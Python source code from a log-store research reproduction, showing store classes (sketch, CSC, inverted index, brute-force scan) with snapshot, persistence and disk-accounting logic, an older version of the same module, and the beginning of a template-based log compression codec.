        >>> from repro.logstore import create_store
        >>> from repro.core.querylang import Contains, Term
        >>> st = create_store("inverted")
        >>> st.ingest("WARN: retrying rpc abc", "api")
        >>> st.ingest("INFO: request served", "api")
        >>> st.finish()
        >>> [len(r.lines) for r in st.search_many([Term("warn"), Contains("request")])]
        [1, 1]
        """
        return execute_search(self, queries)

    # -- snapshot isolation (docs/concurrency.md) ---------------------------------

    def snapshot(self) -> StoreSnapshot:
        """Immutable point-in-time view for lock-free concurrent searches.

        Holds the writer lock only to copy references: the sealed-batch
        inventory (published + writer-held), a frozen copy of the open group
        buffers, and a planner over immutable-only index state via
        :meth:`_snapshot_planner`.  O(open groups + sealed batches) pointer
        work — no payload is copied or decompressed.

        >>> from repro.logstore import create_store
        >>> from repro.core.querylang import Contains
        >>> st = create_store("sharded", n_shards=2)
        >>> st.ingest("ERROR: boom", "web")
        >>> snap = st.snapshot()                  # frozen view, mid-ingest
        >>> st.ingest("ERROR: boom again", "web")
        >>> snap.search(Contains("boom")).lines   # sees only the first line
        ['ERROR: boom']
        """
        with self._write_lock:
            batches = dict(self.batches)
            for b in self.writer.sealed:
                batches.setdefault(b.batch_id, b)
            tail = self.writer.open_tail()
            planner, scan_ids = self._snapshot_planner()
            return StoreSnapshot(
                store_name=self.name,
                finished=self.finished,
                batches=batches,
                tail=tail,
                planner=planner,
                scan_ids=frozenset(scan_ids),
                unbounded_fn=self.unbounded_atoms,
            )

    def _snapshot_planner(self) -> "tuple[Any, Iterable[int]] | None":
        """``(planner, scan_ids)`` for :meth:`snapshot` (writer lock held).

        ``planner`` must only touch state that no future mutation will
        change; ``None`` means the index is still mutating wholesale and
        every query scans.  Base rule: a *finished* store's ``plan`` is
        immutable (sealed sketch / stable bit array / sealed lexicon), an
        unfinished one has no safely-readable index at all.  Stores with
        sealed sub-structures mid-ingest (sharded segments) override this.
        """
        if self.finished:
            return _FinishedStorePlanner(self), ()
        return None, ()

    def _filter_batches(
        self, batch_ids: Iterable[int], pred: "CompiledPredicate"
    ) -> tuple[list[str], int]:
        """Decompress candidates, keep lines where ``pred(raw_line, source)``;
        returns ``(lines, n_batches_scanned)``.  Sealed batches fan out over
        the shared worker pool (deterministic order, see executor.py)."""
        ids = list(batch_ids)
        stored = [bid for bid in ids if bid in self.batches]
        out, n_scanned = filter_sealed_batches(self.batches, stored, pred)
        if len(stored) < len(ids) and not self.finished:
            # mid-ingest: candidate batches may still live in the writer
            pending = [bid for bid in ids if bid not in self.batches]
            for _bid, group, lines in self.writer.iter_unsealed(pending):
                n_scanned += 1
                for ln in lines:
                    if pred(ln, group):
                        out.append(ln)
        return out, n_scanned

    def post_filter(self, batch_ids: Iterable[int], query: Query | str) -> list[str]:
        """Exact post-filter of the given batches (public verify hook).

        ``query`` may be any :class:`Query`; a bare string keeps the legacy
        substring semantics (``Contains``).
        """
        return self._filter_batches(batch_ids, line_matcher(as_query(query)))[0]

    # -- deprecated pre-AST surface (kept as thin shims) ---------------------------
    # Each shim warns once per process (not per call) — a tight legacy loop
    # must not pay warning formatting per query.  Tests reset via _WARNED.

    def _post_filter(self, batch_ids: Iterable[int], term: str) -> list[str]:
        _warn_once(
            "_post_filter",
            "LogStore._post_filter is deprecated; use post_filter() or search()",
        )
        return self.post_filter(batch_ids, term)

    def plan_candidates(self, queries: list[tuple[str, bool]]) -> list[CandidateSet]:
        _warn_once(
            "plan_candidates", "plan_candidates is deprecated; use plan() or search_many()"
        )
        # legacy (term, is_contains) tuples arrive with arbitrary text case
        # and truthiness flags; plan() documents lowercased AtomKeys with real
        # bools, so normalize here instead of relying on every planner to
        # re-lowercase (pinned by the shim-parity test across all stores)
        return self.plan([(str(t).lower(), bool(c)) for t, c in queries])  # repro: allow[R4] atom normalization: same canonical fold the tokenizer applies index-side

    def query_term(self, term: str) -> list[str]:
        """Deprecated: use ``search(Term(term))``."""
        _warn_once("query_term", "query_term is deprecated; use search(Term(...))")
        return self.search(Term(term)).lines

    def query_contains(self, term: str) -> list[str]:
        """Deprecated: use ``search(Contains(term))``."""
        _warn_once(
            "query_contains", "query_contains is deprecated; use search(Contains(...))"
        )
        return self.search(Contains(term)).lines

    # -- accounting ---------------------------------------------------------------

    def _index_bytes(self) -> int:
        raise NotImplementedError

    def disk_usage(self) -> DiskUsage:
        data = sum(len(b.payload) for b in self.batches.values())
        # template codec: count each distinct dictionary blob once — batches
        # of the same source share the blob bytes (and the on-disk slice)
        tpls = {bytes(b.tpl) for b in self.batches.values() if b.tpl is not None}
        data += sum(len(t) for t in tpls)
        raw = sum(b.raw_bytes for b in self.batches.values())
        return DiskUsage(data_bytes=data, index_bytes=self._index_bytes(), raw_bytes=raw)

    def _index_breakdown(self) -> dict[str, int]:
        """Index artifact bytes per §3.3 component (sealed state only).

        Subclasses report what their sealed index files contain (``mphf``,
        ``signatures``, ``csf``, ``postings``, ``bits``, ``lexicon``, …);
        the base store has no index.  Values must be measured from the
        serialized representation — :meth:`storage_breakdown` reconciles the
        sum against the actual on-disk index bytes and books the remainder
        (file headers, alignment padding) as ``index_other``.
        """
        return {}

    def storage_breakdown(self) -> dict[str, int]:
        """Per-component on-disk bytes of the persisted store directory.

        Measured, not estimated: the store is flushed first, then every live
        file is accounted — ``manifest`` and ``wal`` byte-for-byte, batch
        payload files as ``batch_payloads``, and the sealed index artifacts
        split into their §3.3 components via :meth:`_index_breakdown` (with
        file headers/padding under ``index_other``).  The values therefore
        sum exactly to :meth:`~repro.logstore.persist.StoreDir.total_file_bytes`.

        Unsealed in-memory state (open batch buffers, active mutable
        sketches) is durable only through the WAL and shows up as ``wal``
        bytes, not as index bytes.  Raises on in-memory stores — there is no
        directory to measure; ``open(path)`` first.
        """
        if self.storedir is None:
            raise RuntimeError(
                "storage_breakdown() measures the persisted StoreDir — "
                "open the store with a path first (create_store(kind, path=...))"
            )
        from .persist import MANIFEST_NAME

        with self._write_lock:
            self._flush_locked()  # make the directory current (no-op read-only)
            sd = self.storedir

            def fsize(p: Path) -> int:
                try:
                    return p.stat().st_size
                except OSError:
                    return 0

            def subdir_bytes(name: str, suffix: str | None = None) -> int:
                d = sd.root / name
                if not d.is_dir():  # v1 directory on read-only media
                    return 0
                return sum(
                    fsize(p)
                    for p in d.iterdir()
                    if p.is_file() and (suffix is None or p.suffix == suffix)
                )

            tpl_bytes = subdir_bytes("payloads", ".tpl")
            out = {
                "manifest": fsize(sd.root / MANIFEST_NAME),
                "wal": fsize(sd.wal_path),
                "batch_payloads": subdir_bytes("data"),
                "payload_templates": tpl_bytes,
                "payload_variables": subdir_bytes("payloads") - tpl_bytes,
            }
            index_disk = subdir_bytes("index") + subdir_bytes("segments")
            comps = {f"index_{k}": v for k, v in self._index_breakdown().items()}
            comps["index_other"] = index_disk - sum(comps.values())
            out.update(comps)
            return out

    @property
    def n_batches(self) -> int:
        return len(self.batches)


class _FinishedStorePlanner:
    """Snapshot planner over a *finished* store's immutable index state.

    A finished store's ``plan``/``plan_bits`` touch only sealed structures
    (mmap'd sketches, stable bit arrays, sealed lexicons), so sharing the
    bound methods with lock-free snapshot readers is safe.  Exposes the
    ``bits``/``nbits`` surface so finished-store snapshots keep the packed
    candidate pipeline (stores without a bitset planner return ``None`` and
    the snapshot falls back to id-list planning).
    """

    def __init__(self, store: "LogStore") -> None:
        self._store = store
        self.nbits = store._plan_nbits()

    def __call__(self, atom_keys: list[AtomKey]) -> list[CandidateSet]:
        return self._store.plan(atom_keys)

    def bits(self, atom_keys: list[AtomKey]) -> "list[np.ndarray | None] | None":
        bp = self._store.plan_bits(atom_keys)
        return None if bp is None else bp[1]


class CoprStore(LogStore):
    """The paper's system: COPR/DynaWarp sketch over compressed batches."""

    name = "copr"

    def __init__(self, *, sketch_config: SketchConfig | None = None, **kw: Any) -> None:
        super().__init__(**kw)
        cfg = sketch_config or SketchConfig(max_postings=self.max_batches)
        assert cfg.max_postings >= self.max_batches
        self.sketch = CoprSketch(cfg)
        self._sealed: bytes | None = None
        self._reader = None
        self._uid = next(_PLANNER_UIDS)
        # decoded posting bitsets of the sealed sketch, shared across queries
        # and snapshots (runtime tuning knob — deliberately not in _config())
        self._posting_cache = PostingListCache()

    def _index_lines(self, lines: list[str], bids: list[int]) -> None:
        rows, raw_counts = fingerprint_lines(lines)
        self.sketch.add_fingerprints_many(rows, raw_counts, bids)

    def _finish_index(self) -> None:
        self._sealed = self.sketch.seal()
        from ..core.immutable_sketch import ImmutableSketch

        self._reader = ImmutableSketch.from_buffer(self._sealed)
        self._uid = next(_PLANNER_UIDS)

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        return self.plan([(term, contains)])[0]

    def _plan_nbits(self) -> int:
        return self.sketch.config.max_postings

    def plan_bits(self, atoms: list[AtomKey]) -> tuple[int, list] | None:
        """Batched candidate planning as packed bitsets: one vectorized probe
        of the sealed sketch for ALL atoms' token fingerprints (dispatched
        through ``kernelbridge`` — ``REPRO_KERNEL_BACKEND=bass`` runs the
        device ``sketch_probe``), posting lists decoded into cached bitsets,
        token ANDs folded as word ops.  ``None`` pre-finish — the mutable
        sketch plans through the legacy :meth:`plan` path.
        """
        if self._reader is None:
            return None
        # lazy import: segments.py imports this module at package init
        from .segments import plan_token_sets_bits

        token_sets = [
            contains_query_tokens(t) if c else term_query_tokens(t) for t, c in atoms
        ]
        nbits = self._plan_nbits()
        raw = plan_token_sets_bits(
            token_sets, [(self._uid, self._reader)], self._posting_cache, nbits
        )
        _, known_mask = self.known_bits(nbits)
        return nbits, [None if b is None else b & known_mask for b in raw]

    def plan(self, atoms: list[AtomKey]) -> list[CandidateSet]:
        """Batched candidate planning: one probe + shared decodes (Algorithm 3).

        Sketch signature collisions can surface posting ids no batch ever
        owned; every result is clamped to :meth:`known_batch_ids` (supersets
        stay supersets — true postings are always known ids).
        """
        bp = self.plan_bits(atoms)
        if bp is not None:
            _nbits, per_atom = bp
            everything = None
            out: list[CandidateSet] = []
            for b in per_atom:
                if b is None:
                    # empty token set → nothing indexed is guaranteed → scan
                    if everything is None:
                        everything = sorted(self.known_batch_ids())
                    out.append(list(everything))
                else:
                    out.append(bits_to_ids(b).tolist())
            return out
        # pre-finish: CoprSketch spans live mutable + §4.3 temp segments
        token_sets = [
            contains_query_tokens(t) if c else term_query_tokens(t) for t, c in atoms
        ]
        known = self.known_batch_ids()
        raw = [
            None if not toks else self.sketch.query_and(toks).tolist()
            for toks in token_sets
        ]
        return [
            sorted(known) if ids is None else sorted(known.intersection(ids))
            for ids in raw
        ]

    # -- persistence: one sealed sketch file, reopened via mmap ------------------

    _SKETCH_FILE = "index/copr.sketch"

    def _config(self) -> dict:
        return {**super()._config(), "sketch_config": asdict(self.sketch.config)}

    @classmethod
    def _decode_config(cls, cfg: dict) -> dict:
        return decode_sketch_config(cfg)

    def _save_index(self, sd: "StoreDir") -> dict:
        if self._reader is not None and self._sealed is None:
            return self._persisted_index  # mmap-loaded: already on disk
        if self._sealed is None:
            return {}  # unfinished: durability rides the WAL
        if self._persisted_index.get("sketch") != self._SKETCH_FILE:
            sd.write_atomic(self._SKETCH_FILE, self._sealed)
        return {"sketch": self._SKETCH_FILE}

    def _load_index(self, sd: "StoreDir", fragment: dict) -> None:
        if "sketch" in fragment:
            self._reader = sd.open_sketch(fragment["sketch"])
            self._sealed = None  # the mmap is the sketch; no resident copy
            self._uid = next(_PLANNER_UIDS)  # new reader → fresh cache keys

    def _index_files(self, fragment: dict) -> list[str]:
        return [fragment["sketch"]] if "sketch" in fragment else []

    def _index_bytes(self) -> int:
        if self._sealed is not None:
            return len(self._sealed)
        if self._reader is not None:
            return self._reader.nbytes()
        return self.sketch.estimated_bytes()

    def _index_breakdown(self) -> dict[str, int]:
        # sealed sketch only: pre-finish the index is WAL-durable, not a file
        if self._reader is None:
            return {}
        return self._reader.component_nbytes()


class CscStore(LogStore):
    """CSC membership sketch baseline (Li et al. 2021)."""

    name = "csc"

    def __init__(self, *, m_bits: int = 1 << 22, n_hashes: int = 4, n_partitions: int = 64, **kw: Any) -> None:
        super().__init__(**kw)
        self.csc = CscSketch(
            m_bits=m_bits,
            n_hashes=n_hashes,
            n_partitions=n_partitions,
            n_sets=self.max_batches,
        )

    def _index_lines(self, lines: list[str], bids: list[int]) -> None:
        # bit-setting is commutative + idempotent: one vectorized pass over
        # all (fp, bid) pairs of the batch is bit-identical to the loop
        rows, _ = fingerprint_lines(lines)
        lens = np.fromiter((r.size for r in rows), np.int64, count=len(rows))
        if int(lens.sum()) == 0:
            return
        self.csc.add_many_sets(
            np.concatenate(rows), np.repeat(np.asarray(bids, dtype=np.int64), lens)
        )

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        # the paper intersects n-gram results even for term queries to tame
        # CSC's error rate (§5.2) — replicate that
        tokens = contains_query_tokens(term) if contains else term_query_tokens(term)
        grams = contains_query_tokens(term)
        tokens = list(dict.fromkeys([*tokens, *grams]))
        known = self.known_batch_ids()
        if not tokens:
            return sorted(known)
        result: set[int] | None = None
        for fp in fingerprint_tokens(tokens):
            s = set(self.csc.query(int(fp)).tolist())
            result = s if result is None else (result & s)
            if not result:
                return []
        return sorted(result & known)

    # -- persistence: the finished bit vector round-trips as one raw file --------

    _BITS_FILE = "index/csc.bits"

    def _config(self) -> dict:
        return {
            **super()._config(),
            "m_bits": self.csc.m,
            "n_hashes": self.csc.k,
            "n_partitions": self.csc.p,
        }

    def _save_index(self, sd: "StoreDir") -> dict:
        if not self.finished:
            return {}  # bits still mutating: durability rides the WAL
        if self._persisted_index.get("bits") != self._BITS_FILE:
            sd.write_atomic(self._BITS_FILE, self.csc.words.tobytes())
        return {"bits": self._BITS_FILE}

    def _load_index(self, sd: "StoreDir", fragment: dict) -> None:
        words = np.frombuffer(sd.read_file(fragment["bits"]), dtype=np.uint64)
        if words.size != self.csc.words.size:
            raise ValueError(
                f"csc.bits holds {words.size} words but the manifest config "
                f"implies {self.csc.words.size} — truncated or corrupt file"
            )
        self.csc.words = words.copy()

    def _index_files(self, fragment: dict) -> list[str]:
        return [fragment["bits"]] if "bits" in fragment else []

    def _index_bytes(self) -> int:
        return self.csc.nbytes()

    def _index_breakdown(self) -> dict[str, int]:
        # the bits file IS the word array — one raw component, no framing
        if not self.finished:
            return {}
        return {"bits": self.csc.words.nbytes}


class InvertedStore(LogStore):
    """Lucene-class inverted index: full terms (rules 1–5), no n-grams."""

    name = "inverted"
    uses_ngrams = False

    def __init__(self, **kw: Any) -> None:
        super().__init__(**kw)
        self.index = InvertedIndex()

    def _index_lines(self, lines: list[str], bids: list[int]) -> None:
        self.index.add_many(tokenize_lines(lines, ngrams=False), bids)

    def _finish_index(self) -> None:
        self.index.finish()

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        t = term.lower()  # repro: allow[R4] lexicon lookup: the lexicon stores tokens folded by tokenize_line's identical str.lower
        if not contains:
            # Term = full-token membership → exact lexicon lookup is exact
            return self.index.query_term(t)
        if is_single_alnum_run(t):
            # a pure-alnum substring lies inside one rule-1 token of any
            # line containing it — the lexicon dictionary scan is a
            # guaranteed superset (the Lucene ``contains`` path)
            return self.index.query_substring(t)
        # the substring may span token boundaries (whitespace, separators) —
        # a full-term lexicon cannot bound it; scan everything (correct,
        # and honest about Lucene-class limits — no n-grams, no magic)
        return sorted(self.known_batch_ids())

    def unbounded_atoms(self, keys: list[AtomKey]) -> set[AtomKey]:
        """Lexicon semantics, not gram semantics: Term is an exact lookup and
        a single-alnum-run Contains is bounded by the dictionary scan (even a
        2-char one); only a run-crossing Contains degrades to the full scan."""
        return {
            (text, contains)
            for text, contains in keys
            if contains and not is_single_alnum_run(text)
        }

    # -- persistence: sealed lexicon + posting blob round-trip as one file -------

    _IDX_FILE = "index/inverted.idx"

    def _save_index(self, sd: "StoreDir") -> dict:
        if self.index.terms is None:
            return {}  # unfinished: durability rides the WAL
        if self._persisted_index.get("index") != self._IDX_FILE:
            sd.write_atomic(self._IDX_FILE, self.index.to_bytes())
        return {"index": self._IDX_FILE}

    def _load_index(self, sd: "StoreDir", fragment: dict) -> None:
        self.index = InvertedIndex.from_bytes(sd.read_file(fragment["index"]))

    def _index_files(self, fragment: dict) -> list[str]:
        return [fragment["index"]] if "index" in fragment else []

    def _index_bytes(self) -> int:
        return self.index.nbytes()

    def _index_breakdown(self) -> dict[str, int]:
        idx = self.index
        if idx.terms is None:
            return {}
        return {
            "lexicon": len(idx.term_blob),
            "postings": len(idx.post_blob),
            "offsets": idx.post_offsets.nbytes + idx.post_counts.nbytes,
        }


class ScanStore(LogStore):
    """Brute force: no index, decompress + scan everything."""

    name = "scan"
    uses_ngrams = False

    def _index_lines(self, lines: list[str], bids: list[int]) -> None:
        pass

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        return sorted(self.known_batch_ids())

    def unbounded_atoms(self, keys: list[AtomKey]) -> set[AtomKey]:
        return set(keys)  # no index: every atom is a full scan

    def _index_bytes(self) -> int:
        return 0


STORE_CLASSES = {
    c.name: c for c in (CoprStore, CscStore, InvertedStore, ScanStore)
}
# segments.py registers ShardedCoprStore here on import (the package __init__
# always imports it; a direct `import repro.logstore.store` runs __init__ too)


def create_store(kind: str, *, path: "str | Path | None" = None, **kw: Any) -> LogStore:
    """Build a store by registry name: ``create_store("sharded", n_shards=8)``.

    The one front door over :data:`STORE_CLASSES` — callers no longer reach
    into the dict.  With ``path`` the store is opened (or created)
    *persistent* at that directory via ``cls.open`` (docs/persistence.md);
    without it the store is in-memory.  An unknown ``kind`` raises a
    ``KeyError`` that names every valid kind.

    >>> from repro.logstore import create_store
    >>> create_store("scan").name
    'scan'
    >>> create_store("warp")
    Traceback (most recent call last):
        ...
    KeyError: "unknown store kind 'warp' — valid kinds: copr, csc, inverted, scan, sharded"
    """
    try:
        cls = STORE_CLASSES[kind]
    except KeyError:
        raise KeyError(
            f"unknown store kind {kind!r} — valid kinds: "
            f"{', '.join(sorted(STORE_CLASSES))}"
        ) from None
    if path is not None:
        return cls.open(path, **kw)
    return cls(**kw)
