"""Log-store implementations benchmarked against each other (paper §5).

Common interface: ``ingest(line, source)`` → ``finish()`` → ``query_term`` /
``query_contains`` (both return matching lines after decompress + post-filter)
plus ``disk_usage()`` split into data vs sketch/index bytes and
``candidate_batches`` for error-rate measurements.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass

import numpy as np

from ..core import CoprSketch, SketchConfig
from ..core.hashing import fingerprint_tokens
from .batch import BatchWriter, SealedBatch
from .csc import CscSketch
from .inverted import InvertedIndex
from .tokenizer import contains_query_tokens, term_query_tokens, tokenize_line


@dataclass
class DiskUsage:
    data_bytes: int
    index_bytes: int
    raw_bytes: int

    @property
    def overhead_vs_compressed(self) -> float:
        return self.index_bytes / max(1, self.data_bytes)

    @property
    def overhead_vs_raw(self) -> float:
        return self.index_bytes / max(1, self.raw_bytes)


class LogStore:
    """Base: batch storage + post-filtering; subclasses add the index."""

    name = "base"
    uses_ngrams = True

    def __init__(self, *, lines_per_batch: int = 512, max_batches: int = 4096) -> None:
        self.writer = BatchWriter(lines_per_batch=lines_per_batch, max_batches=max_batches)
        self.batches: dict[int, SealedBatch] = {}
        self.max_batches = max_batches
        self.finished = False

    # -- ingest ----------------------------------------------------------------

    def ingest(self, line: str, source: str = "") -> None:
        bid = self.writer.add(line, group=source)
        self._index_line(line, bid)

    def _index_line(self, line: str, bid: int) -> None:  # pragma: no cover
        raise NotImplementedError

    def finish(self) -> None:
        for b in self.writer.finish():
            self.batches[b.batch_id] = b
        self._finish_index()
        self.finished = True

    def _finish_index(self) -> None:
        pass

    # -- query -------------------------------------------------------------------

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        raise NotImplementedError

    def _post_filter(self, batch_ids, term: str) -> list[str]:
        out: list[str] = []
        pending: list[int] = []
        for bid in batch_ids:
            b = self.batches.get(bid)
            if b is not None:
                out.extend(b.search(term))
            else:
                pending.append(bid)
        if pending and not self.finished:
            # mid-ingest: candidate batches may still live in the writer
            out.extend(self.writer.search_unsealed(pending, term))
        return out

    def query_term(self, term: str) -> list[str]:
        return self._post_filter(self.candidate_batches(term, contains=False), term)

    def query_contains(self, term: str) -> list[str]:
        return self._post_filter(self.candidate_batches(term, contains=True), term)

    # -- accounting ---------------------------------------------------------------

    def _index_bytes(self) -> int:
        raise NotImplementedError

    def disk_usage(self) -> DiskUsage:
        data = sum(len(b.payload) for b in self.batches.values())
        raw = sum(b.raw_bytes for b in self.batches.values())
        return DiskUsage(data_bytes=data, index_bytes=self._index_bytes(), raw_bytes=raw)

    @property
    def n_batches(self) -> int:
        return len(self.batches)


class CoprStore(LogStore):
    """The paper's system: COPR/DynaWarp sketch over compressed batches."""

    name = "copr"

    def __init__(self, *, sketch_config: SketchConfig | None = None, **kw) -> None:
        super().__init__(**kw)
        cfg = sketch_config or SketchConfig(max_postings=self.max_batches)
        assert cfg.max_postings >= self.max_batches
        self.sketch = CoprSketch(cfg)
        self._sealed: bytes | None = None
        self._reader = None

    def _index_line(self, line: str, bid: int) -> None:
        self.sketch.add_tokens(tokenize_line(line), bid)

    def _finish_index(self) -> None:
        self._sealed = self.sketch.seal()
        from ..core.immutable_sketch import ImmutableSketch

        self._reader = ImmutableSketch.from_buffer(self._sealed)

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        tokens = contains_query_tokens(term) if contains else term_query_tokens(term)
        if not tokens:
            return sorted(self.batches)  # nothing indexed is guaranteed → scan
        if self._reader is None:
            # pre-finish: CoprSketch spans live mutable + §4.3 temp segments
            return self.sketch.query_and(tokens).tolist()
        from ..core.query import query_and

        return query_and(self._reader, tokens).tolist()

    def plan_candidates(self, queries: list[tuple[str, bool]]) -> list[list[int]]:
        """Batched candidate planning: one probe + shared decodes (Algorithm 3)."""
        from ..core.query import IntersectConsumer, execute_queries

        token_sets = [
            contains_query_tokens(t) if c else term_query_tokens(t) for t, c in queries
        ]
        if self._reader is None:
            # pre-finish there is no sealed reader to batch against; fall back
            # to per-query multi-segment AND (mutable + temp segments, §4.3)
            return [
                sorted(self.batches)
                if not toks
                else self.sketch.query_and(toks).tolist()
                for toks in token_sets
            ]
        consumers = execute_queries(self._reader, token_sets, IntersectConsumer)
        return [
            sorted(self.batches) if not toks else sorted(c.result or set())
            for toks, c in zip(token_sets, consumers)
        ]

    def _index_bytes(self) -> int:
        return len(self._sealed) if self._sealed is not None else self.sketch.estimated_bytes()


class CscStore(LogStore):
    """CSC membership sketch baseline (Li et al. 2021)."""

    name = "csc"

    def __init__(self, *, m_bits: int = 1 << 22, n_hashes: int = 4, n_partitions: int = 64, **kw) -> None:
        super().__init__(**kw)
        self.csc = CscSketch(
            m_bits=m_bits,
            n_hashes=n_hashes,
            n_partitions=n_partitions,
            n_sets=self.max_batches,
        )

    def _index_line(self, line: str, bid: int) -> None:
        fps = np.unique(fingerprint_tokens(tokenize_line(line)))
        self.csc.add_many(fps, bid)

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        # the paper intersects n-gram results even for term queries to tame
        # CSC's error rate (§5.2) — replicate that
        tokens = contains_query_tokens(term) if contains else term_query_tokens(term)
        grams = contains_query_tokens(term)
        tokens = list(dict.fromkeys([*tokens, *grams]))
        if not tokens:
            return sorted(self.batches)
        result: set[int] | None = None
        for fp in fingerprint_tokens(tokens):
            s = set(self.csc.query(int(fp)).tolist())
            result = s if result is None else (result & s)
            if not result:
                return []
        return sorted(result & set(self.batches))

    def _index_bytes(self) -> int:
        return self.csc.nbytes()


class InvertedStore(LogStore):
    """Lucene-class inverted index: full terms (rules 1–5), no n-grams."""

    name = "inverted"
    uses_ngrams = False

    def __init__(self, **kw) -> None:
        super().__init__(**kw)
        self.index = InvertedIndex()

    def _index_line(self, line: str, bid: int) -> None:
        self.index.add(tokenize_line(line, ngrams=False), bid)

    def _finish_index(self) -> None:
        self.index.finish()

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        if contains:
            # dictionary scan: any lexicon term containing the query substring
            return self.index.query_substring(term.lower())
        return self.index.query_term(term.lower())

    def _index_bytes(self) -> int:
        return self.index.nbytes()


class ScanStore(LogStore):
    """Brute force: no index, decompress + scan everything."""

    name = "scan"
    uses_ngrams = False

    def _index_line(self, line: str, bid: int) -> None:
        pass

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        return sorted(self.batches)

    def _index_bytes(self) -> int:
        return 0


STORE_CLASSES = {
    c.name: c for c in (CoprStore, CscStore, InvertedStore, ScanStore)
}
# segments.py registers ShardedCoprStore here on import (the package __init__
# always imports it; a direct `import repro.logstore.store` runs __init__ too)
