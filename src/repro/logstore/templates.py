"""Template-aware payload codec (docs/persistence.md §payload codecs).

Splits each sealed batch into a **template dictionary** (the constant text
shared by structurally-identical lines) and **variable columns** (the bytes
that actually differ line to line), following the Logzip observation that
logs compress far better once constants and variables are separated — and
the Xie et al. observation that the same split accelerates analysis: a
constant-only needle can be matched once per *template* instead of once per
line.

Representation
--------------

A template is a list of *pieces*: literal ``str`` fragments interleaved with
single-character slot markers

* ``"\\x00"`` (GEN)   — generic slot, value stored as raw bytes;
* ``"\\x01"`` (DIG)   — all-digit slot, value bit-packed as an integer
  (``bit_length(10^L - 1)`` bits for an ``L``-digit value);
* ``"\\x02"`` (ALPHA) — lowercase ``a-z`` slot, value bit-packed base-26.

``rendered = "".join(pieces)`` — the dictionary blob is the rendered
templates joined with ``"\\n"`` and raw-deflated.  Constants never contain
marker bytes or newlines (the miner forces such content into GEN slots), so
the rendered form parses back unambiguously.

The per-batch variables blob is::

    u32 main_len | deflate(u32 n_lines | tpl_ids | u8 lens | GEN bytes) | bit-packed tail

Values are laid out template-major then slot-major (column order), so equal
columns sit adjacently for the deflate pass.  Digit/alpha values live in the
uncompressed bit-packed tail — they are near-uniform, and packing them at
(near-)entropy width beats sharing one deflate Huffman table with the text.

Mining is deterministic in the line list.  The encoder keeps per-group
state: a batch whose lines all parse against the group's existing dictionary
reuses it *byte-identically*, so consecutive batches of one source emit the
same dictionary blob and the store-level flush dedups it to a single file
slice (see ``store.py``).  Grouping signatures are computed vectorized from
the ``tokenizer.line_token_spans`` slab.
"""

from __future__ import annotations

import re
import struct
import zlib
from functools import lru_cache
from typing import Iterable

import numpy as np

from .tokenizer import line_token_spans

GEN = "\x00"
DIG = "\x01"
ALPHA = "\x02"
_MARKERS = (GEN, DIG, ALPHA)
_MARKER_RE = re.compile("[\x00-\x02]")

#: dictionary size cap — template ids must fit one byte, and one slot is
#: reserved for the catch-all template (a single GEN slot matching any line)
MAX_TEMPLATES = 256

_SEP_RUN = re.compile(r"[!-/:-@\[-`{-~]+")  # rule-2 separator runs (no space)
_CLASS_RUN = re.compile(r"[0-9]+|[A-Za-z]+|[^0-9A-Za-z]+")
_HAS_DIGIT = re.compile(r"[0-9]")

# byte-class LUT over the slab: 1 = rule-2 separator byte, 2 = space
_BYTE_CLS = np.zeros(256, dtype=np.uint8)
for _b in range(0x21, 0x7F):
    if not chr(_b).isalnum():
        _BYTE_CLS[_b] = 1
_BYTE_CLS[0x20] = 2


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _inflate(data: "bytes | memoryview") -> bytes:
    return zlib.decompress(bytes(data), -15)


# -- grouping signatures --------------------------------------------------------------


def _signatures(lines: list[str]) -> list[tuple[int, bytes]]:
    """Per-line structure signature ``(n_spaces, separator-run bytes)``.

    Computed from the ``line_token_spans`` slab when available (one numpy
    pass over the batch); the per-line regex fallback produces identical
    values.  Lowering only affects letters, so separator structure read off
    the lowered slab equals the original's.
    """
    spans = line_token_spans(lines)
    if spans is not None:
        slab = spans[0]
        cls = _BYTE_CLS[slab]
        nl = np.flatnonzero(slab == 0x0A)
        line_starts = np.concatenate(([0], nl + 1))
        cls_at_nl = cls.copy()
        cls_at_nl[nl] = 0  # newlines terminate runs and count for no line
        is_sep = cls_at_nl == 1
        edges = np.flatnonzero(np.diff(np.concatenate(([0], is_sep.view(np.int8), [0]))))
        run_starts, run_ends = edges[0::2], edges[1::2]
        run_line = np.searchsorted(line_starts, run_starts, side="right") - 1
        space_counts = np.zeros(len(lines), dtype=np.int64)
        sp_line = np.searchsorted(line_starts, np.flatnonzero(cls_at_nl == 2), side="right") - 1
        np.add.at(space_counts, sp_line, 1)
        buf = slab.tobytes()
        parts: list[list[bytes]] = [[] for _ in lines]
        for s, e, li in zip(run_starts.tolist(), run_ends.tolist(), run_line.tolist()):
            parts[int(li)].append(buf[s:e])
        return [
            (int(space_counts[i]), b" ".join(parts[i])) for i in range(len(lines))
        ]
    out: list[tuple[int, bytes]] = []
    for ln in lines:
        runs = _SEP_RUN.findall(ln)
        out.append((ln.count(" "), " ".join(runs).encode("utf-8", "replace")))
    return out


# -- mining ---------------------------------------------------------------------------


def _run_class(run: str) -> str:
    ch = run[0]
    return "d" if ch.isdigit() else "a" if ch.isalpha() else "p"


def mine(lines: list[str], max_templates: int = MAX_TEMPLATES) -> list[list[str]]:
    """Mine a bounded template dictionary from ``lines``.

    Deterministic in the line list.  Groups lines by structure signature,
    then classifies each space-field — and, where the field's run structure
    aligns across the group, each class run inside it — as constant or
    variable.  Anything containing digits, marker bytes, or varying content
    becomes a slot.  Always ends with the catch-all ``[GEN]`` template, so
    every possible line parses against the result.
    """
    fields = [ln.split(" ") for ln in lines]
    sigs = _signatures(lines)
    groups: dict[tuple[int, bytes], list[int]] = {}
    for i, sig in enumerate(sigs):
        groups.setdefault(sig, []).append(i)
    glist = sorted(groups.values(), key=lambda g: g[0])

    templates: list[list[str]] = []
    for g in glist:
        if len(templates) >= max_templates - 1:
            break
        nf = len(fields[g[0]])
        pieces: list[str] = []
        for p in range(nf):
            if p:
                pieces.append(" ")
